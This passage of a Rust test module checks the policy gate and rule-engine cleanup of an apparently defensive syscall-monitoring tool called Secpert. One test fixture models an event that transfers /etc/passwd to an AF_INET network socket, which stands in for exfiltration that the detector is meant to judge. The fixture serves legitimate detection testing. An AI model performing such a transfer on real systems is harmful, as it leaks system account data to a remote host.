                (ResourceType::Socket, "h:3 (AF_INET)"),
                vec![(ResourceType::Binary, "/bin/x")],
                None,
            ),
            transfer(
                vec![(ResourceType::File, "/etc/passwd")],
                vec![],
                (ResourceType::File, "h:3 (AF_INET)"),
                vec![],
                Some(server),
            ),
            transfer(vec![], vec![], (ResourceType::Console, "STDOUT"), vec![], None),
        ];
        // Scalar variants: pid/time/frequency/address hits and misses.
        if let SecpertEvent::ResourceAccess { time, .. } = &mut events[1] {
            *time = 99;
        }
        let mut admitted = 0;
        for event in &events {
            let fact = fact_builder.event_to_fact(event).unwrap();
            assert_eq!(
                gate.admits(event),
                gate.filter.passes_fact(&fact),
                "gate and fact-level filter disagree on {event:?}"
            );
            admitted += usize::from(gate.admits(event));
        }
        assert!(admitted > 0 && admitted < events.len(), "mix of passes and skips");
    }

    #[test]
    fn skipped_events_still_count_and_produce_nothing() {
        // A policy whose catch-alls are the only rules still admits
        // everything; to exercise the skip path, drive the gate with a
        // constrained engine via a custom Secpert rule base is not
        // possible (the standard policy always loads). Instead, pin the
        // admit decision itself: standard policy admits every event.
        let mut s = Secpert::new(&PolicyConfig::default()).unwrap();
        assert!(s.gate.access.always, "cleanup catch-alls make access always-pass");
        assert!(s.gate.transfer.always, "cleanup catch-alls make transfer always-pass");
        let event = access_event("SYS_open", "/tmp/x", vec![(ResourceType::Binary, "/bin/x")]);
        s.process_event(&event).unwrap();
        assert_eq!(s.events_processed(), 1);
    }

    #[test]
    fn working_memory_stays_clean() {
        let mut s = Secpert::new(&PolicyConfig::default()).unwrap();
        for i in 0..20 {
            let _ = s
                .process_event(&access_event(
                    "SYS_open",
                    &format!("/tmp/f{i}"),
                    vec![(ResourceType::Binary, "/bin/x")],
                ))
                .unwrap();
        }
        // Only initial-fact should remain after cleanup rules.
        assert_eq!(s.engine_mut().fact_count(), 1);
    }
}
